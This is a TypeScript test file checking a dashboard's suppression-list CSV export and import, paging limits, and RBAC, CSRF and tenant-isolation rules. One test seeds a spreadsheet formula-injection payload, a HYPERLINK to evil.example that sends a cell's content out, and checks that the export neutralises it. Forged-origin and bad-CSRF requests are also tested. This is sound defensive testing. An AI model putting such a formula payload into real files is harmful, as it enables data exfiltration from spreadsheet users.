/**
 * The suppressions page's CSV export and import and its paging (docs/dashboard.md#pages), in workerd:
 * an export imported into another tenant's list (and another list) gives the same set, cells that a
 * spreadsheet would run as formulas are neutralised, bad rows are reported by line, an oversize file
 * is refused, pages past 100 are reachable, and RBAC / CSRF / tenant binding hold on the new routes.
 */
import { describe, expect, it } from "vitest";
import { BASE, call, createApiKey, createTenant, uid } from "./helpers.ts";
import { Browser, createLogin, createRole } from "./dashboard.helpers.ts";

async function tenantWithKey() {
  const tenantId = await createTenant();
  const key = await createApiKey(tenantId, { scopes: ["suppressions.read", "suppressions.write"] });
  const api = (method: string, path: string, body?: string, type = "application/json") =>
    call(path, {
      method,
      headers: { Authorization: `Bearer ${key.key}`, "Content-Type": type },
      ...(body !== undefined ? { body } : {}),
    });
  return { tenantId, api };
}

/** A browser's multipart form post of one file, same-origin, with its CSRF token. */
async function upload(
  b: Browser,
  path: string,
  content: string | Uint8Array,
  opts: { csrf?: string; origin?: string } = {},
): Promise<{ status: number; text: string }> {
  const fd = new FormData();
  fd.append("_csrf", opts.csrf ?? b.csrf);
  fd.append("file", new File([content], "list.csv", { type: "text/csv" }));
  const res = await call(path, {
    method: "POST",
    headers: { Cookie: b.cookie, Origin: opts.origin ?? BASE },
    body: fd,
    redirect: "manual",
  });
  return { status: res.status, text: await res.text() };
}

async function apiSet(api: (m: string, p: string) => Promise<Response>, list: string): Promise<string[]> {
  const res = await api("GET", `/v3/suppression/${list}?limit=500`);
  expect(res.status).toBe(200);
  return ((await res.json()) as { email: string }[]).map((r) => r.email).sort();
}

describe("dashboard suppressions: CSV and paging", () => {
  it("an export imports into another tenant and another list as the same set; formulas are neutralised", async () => {
    const a = await tenantWithKey();
    const m = uid();
    const emails = [`one-${m}@example.org`, `two-${m}@example.org`, `three-${m}@example.org`];
    const reasons = [`=HYPERLINK("http://evil.example/?x="&A1) ${m}`, `550, "quoted" ${m}`, `+1 ${m}`];
    for (const [i, email] of emails.entries())
      expect(
        (await a.api("POST", "/v3/suppression/blocks", JSON.stringify({ email, reason: reasons[i] }))).status,
      ).toBe(201);
    const ba = await Browser.signIn((await createLogin(a.tenantId, ["admin"])).email);
    const page = await ba.get("/app/suppressions?list=blocks");
    expect(page.text).toContain('href="/app/suppressions/blocks/export"');
    expect(page.text).toContain('action="/app/suppressions/blocks/import"');

    const exp = await call("/app/suppressions/blocks/export", { headers: { Cookie: ba.cookie } });
    expect(exp.status).toBe(200);
    expect(exp.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(exp.headers.get("content-disposition")).toBe('attachment; filename="blocks.csv"');
    const csv = await exp.text();
    const lines = csv.trimEnd().split("\r\n");
    expect(lines[0]).toBe("email,created,reason,status");
    expect(lines).toHaveLength(4);
    // The formula cell is quoted (it holds a comma-free quote) and starts with ', not =.
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1) ${m}"`);
    expect(csv).toContain(`,'+1 ${m},`);
    expect(csv).toContain(`"550, ""quoted"" ${m}"`);
    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
    // The filtered export holds just the filtered part.
    const one = await (
      await call(`/app/suppressions/blocks/export?email=one-${m}`, { headers: { Cookie: ba.cookie } })
    ).text();
    expect(one.trimEnd().split("\r\n")).toHaveLength(2);

    // Into another tenant's blocks list: the same set, the same times and reasons (the ' stays on).
    const b = await tenantWithKey();
    const bb = await Browser.signIn((await createLogin(b.tenantId, ["admin"])).email);
    await bb.get("/app/suppressions?list=blocks");
    const imported = await upload(bb, "/app/suppressions/blocks/import", csv);
    expect(imported.status, imported.text).toBe(200);
    expect(imported.text).toContain("3 addresses added to blocks");
    expect(imported.text).not.toContain('id="import-errors"');
    expect(await apiSet(b.api, "blocks")).toEqual([...emails].sort());
    const again = await (
      await call("/app/suppressions/blocks/export", { headers: { Cookie: bb.cookie } })
    ).text();
    // Line for line (the export's seconds reorder rows added within one second): the stored reason
    // keeps the neutralising ', which the export does not double.
    const sorted = (text: string) => text.trimEnd().split("\r\n").sort();
    expect(sorted(again)).toEqual(sorted(csv));
    // Tenant a's list is untouched by b's import.
    expect(await apiSet(a.api, "blocks")).toEqual([...emails].sort());

    // Into another list (bounces holds every blocks column): the same set.
    await bb.get("/app/suppressions?list=bounces");
    expect((await upload(bb, "/app/suppressions/bounces/import", csv)).status).toBe(200);
    expect(await apiSet(b.api, "bounces")).toEqual([...emails].sort());
    // A column the target list does not keep is refused, not dropped.
    const toSpam = await upload(bb, "/app/suppressions/spam_reports/import", csv);
    expect(toSpam.status).toBe(400);
    expect(toSpam.text).toContain("reason, status are not kept on this list");
    expect(await apiSet(b.api, "spam_reports")).toEqual([]);
  });

  it("one address per line; bad rows are reported by line number and the good ones added", async () => {
    const t = await tenantWithKey();
    const m = uid();
    const b = await Browser.signIn((await createLogin(t.tenantId, ["admin"])).email);
    await b.get("/app/suppressions?list=invalid_emails");
    const file = [
      `good-${m}@example.org`,
      "",
      `not-an-address-${m}`,
      `second-${m}@example.org`,
      `Good-${m}@example.org`,
      `third-${m}@example.org,extra`,
      `fourth-${m}@example.org`,
    ].join("\n");
    const res = await upload(b, "/app/suppressions/invalid_emails/import", file);
    expect(res.status, res.text).toBe(200);
    expect(res.text).toContain("3 addresses added to invalid_emails; 3 rows not imported");
    const rows = [...res.text.matchAll(/<tr><td>(\d+)<\/td><td>([^<]*)<\/td><td>([^<]*)<\/td><\/tr>/g)].map(
      (r) => [Number(r[1]), r[2], r[3]],
    );
    expect(rows).toEqual([
      [3, `not-an-address-${m}`, "not a valid email address"],
      [5, `Good-${m}@example.org`, "the address is in the file already"],
      [6, `third-${m}@example.org`, "expected 1 field, got 2"],
    ]);
    expect(await apiSet(t.api, "invalid_emails")).toEqual(
      [`fourth-${m}@example.org`, `good-${m}@example.org`, `second-${m}@example.org`].sort(),
    );
    // Global unsubscribes import through the ASM call and show on their list.
    await b.get("/app/suppressions?list=unsubscribes");
    expect(
      (await upload(b, "/app/suppressions/unsubscribes/import", `email\r\nu-${m}@example.org\r\n`)).status,
    ).toBe(200);
    expect((await t.api("GET", `/v3/asm/suppressions/global/u-${m}@example.org`)).status).toBe(200);
  });

  it("an oversize file or too many rows is refused and nothing is added", async () => {
    const t = await tenantWithKey();
    const m = uid();
    const b = await Browser.signIn((await createLogin(t.tenantId, ["admin"])).email);
    await b.get("/app/suppressions?list=bounces");
    const big = `a-${m}@example.org\n` + "x".repeat(1_048_577);
    const tooBig = await upload(b, "/app/suppressions/bounces/import", big);
    expect(tooBig.status).toBe(413);
    expect(tooBig.text).toContain("larger than 1 MiB");
    const many = Array.from({ length: 10_001 }, (_, i) => `r${i}-${m}@example.org`).join("\n");
    const tooMany = await upload(b, "/app/suppressions/bounces/import", many);
    expect(tooMany.status).toBe(413);
    expect(tooMany.text).toContain("at most 10,000 addresses; this file has 10,001");
    expect(await apiSet(t.api, "bounces")).toEqual([]);
  });

  it("pages past 100 with offset links; every address is on exactly one page", async () => {
    const t = await tenantWithKey();
    const m = uid();
    const all = Array.from({ length: 230 }, (_, i) => `p${String(i).padStart(3, "0")}-${m}@example.org`);
    const seed = await t.api(
      "POST",
      "/v3/suppression/bounces/import",
      `email\r\n${all.join("\r\n")}\r\n`,
      "text/csv",
    );
    expect(seed.status, await seed.clone().text()).toBe(200);
    const b = await Browser.signIn((await createLogin(t.tenantId, ["admin"])).email);
    const seen: string[] = [];
    let path: string | null = "/app/suppressions?list=bounces";
    const pages: number[] = [];
    while (path) {
      const page = await b.get(path.replace(/&amp;/g, "&"));
      expect(page.status).toBe(200);
      const here = [...page.text.matchAll(/<td>(p\d{3}-[^<]+)<\/td>/g)].map((r) => r[1]!);
      pages.push(here.length);
      seen.push(...here);
      path = /<a rel="next" href="([^"]+)"/.exec(page.text)?.[1] ?? null;
      if (pages.length > 1) expect(page.text).toMatch(/<a rel="prev" href="[^"]+"/);
    }
    expect(pages).toEqual([100, 100, 30]);
    expect(seen.sort()).toEqual([...all].sort());
    expect((await b.get("/app/suppressions?list=bounces&offset=-1")).status).toBe(400);
    expect((await b.get("/app/suppressions?list=bounces&offset=1e3")).status).toBe(400);
  });

  it("RBAC, CSRF and tenant binding on export and import", async () => {
    const t = await tenantWithKey();
    const m = uid();
    expect(
      (await t.api("POST", "/v3/suppression/bounces", JSON.stringify({ email: `x-${m}@example.org` })))
        .status,
    ).toBe(201);
    const reader = await Browser.signIn(
      (await createLogin(t.tenantId, [await createRole(t.tenantId, ["suppressions.read"])])).email,
    );
    const page = await reader.get("/app/suppressions?list=bounces");
    expect(page.text).toContain("/app/suppressions/bounces/export");
    expect(page.text).not.toContain("/app/suppressions/bounces/import");
    expect(
      (await call("/app/suppressions/bounces/export", { headers: { Cookie: reader.cookie } })).status,
    ).toBe(200);
    expect((await upload(reader, "/app/suppressions/bounces/import", `y-${m}@example.org`)).status).toBe(403);

    const admin = await Browser.signIn((await createLogin(t.tenantId, ["admin"])).email);
    await admin.get("/app/suppressions?list=bounces");
    expect(
      (
        await upload(admin, "/app/suppressions/bounces/import", `y-${m}@example.org`, {
          csrf: "0".repeat(64),
        })
      ).status,
    ).toBe(403);
    expect(
      (
        await upload(admin, "/app/suppressions/bounces/import", `y-${m}@example.org`, {
          origin: "https://evil.example",
        })
      ).status,
    ).toBe(403);
    expect((await upload(admin, "/app/suppressions/nope/import", `y-${m}@example.org`)).status).toBe(404);
    expect(await apiSet(t.api, "bounces")).toEqual([`x-${m}@example.org`]);

    // Another tenant's session exports its own (empty) list, never this one's.
    const other = await tenantWithKey();
    const stranger = await Browser.signIn((await createLogin(other.tenantId, ["admin"])).email);
    const theirs = await (
      await call("/app/suppressions/bounces/export", { headers: { Cookie: stranger.cookie } })
    ).text();
    expect(theirs).toBe("email,created,reason,status,bounce_type\r\n");
    // Without a session: to the sign-in page.
    expect((await call("/app/suppressions/bounces/export", { redirect: "manual" })).status).toBe(303);
  });
});
